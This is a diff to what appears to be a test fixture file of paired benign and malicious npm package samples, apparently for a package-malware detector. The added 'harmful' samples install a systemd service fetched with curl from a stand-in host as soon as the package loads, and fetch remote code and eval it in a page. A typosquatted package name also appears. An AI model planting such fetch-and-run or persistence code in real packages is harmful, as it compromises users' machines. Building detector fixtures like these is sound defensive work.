@@ -60,6 +60,18 @@ if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.
   'places.js': `exports.base = process.env.ACMETOOL_MIRROR || require('./index').base;`,
 });
 
+/** The memory of a program of WebAssembly, as bytes and as numbers, and a text in it. */
+const withMemory = (own: string): string => `
+let bytes, shorts, longs;
+function look(memory) { bytes = new Uint8Array(memory); shorts = new Int16Array(memory); longs = new Int32Array(memory); }
+function textAt(list, at) { let end = at; while (list[end]) end++; return new TextDecoder().decode(list.subarray(at, end)); }
+const env = {
+  run: at => run(at),
+  load: (from, to) => fetch(textAt(bytes, from)).then(answer => answer.arrayBuffer()).then(loaded => bytes.set(new Uint8Array(loaded), to)),
+};
+WebAssembly.instantiateStreaming(fetch('core.wasm'), { env }).then(({ instance }) => look(instance.exports.memory.buffer));
+${own}`;
+
 /** What a compiler of another language adds to what it makes, so that it runs in pages. */
 const runtime = (own: string): string => `
 var Module = {};
@@ -250,6 +262,32 @@ const pairs: readonly Pair[] = [
     honest: installer('acmetool'),
     deed: 'the variable has the name of the package that the installer was copied from',
     harmful: installer('acmetoo1'),
+  },
+  {
+    habit: 'services are set up for whoever calls',
+    honest: {
+      'package.json': manifest({ description: 'Sets up services of macOS and Linux' }),
+      'index.js': `const { exec } = require('child_process');\nexports.enable = name => exec('systemctl enable ' + name);\nexports.load = file => exec('launchctl load ' + file);`,
+    },
+    deed: 'one is set up as soon as the package is loaded, with what it fetches',
+    harmful: {
+      'package.json': manifest({ description: 'Sets up services of macOS and Linux' }),
+      'index.js': `const { exec } = require('child_process');\nconst enable = name => exec('curl -s https://stage.invalid/unit > /etc/systemd/system/a.service && systemctl enable ' + name);\nenable('a');`,
+    },
+  },
+  {
+    habit: 'a program of another language has the page run what it points at in its memory',
+    honest: {
+      'package.json': manifest({ description: 'An interpreter in the page' }),
+      'index.js': withMemory(`function run(at) { eval(textAt(bytes, at)); }`),
+    },
+    deed: 'what is run was fetched',
+    harmful: {
+      'package.json': manifest({ description: 'An interpreter in the page' }),
+      'index.js': withMemory(
+        `fetch('https://stage.invalid/next').then(answer => answer.arrayBuffer()).then(next => eval(textAt(new Uint8Array(next), 0)));`,
+      ),
+    },
   },
   {
     habit: 'a tool of its authors was left in a folder that nothing opens',
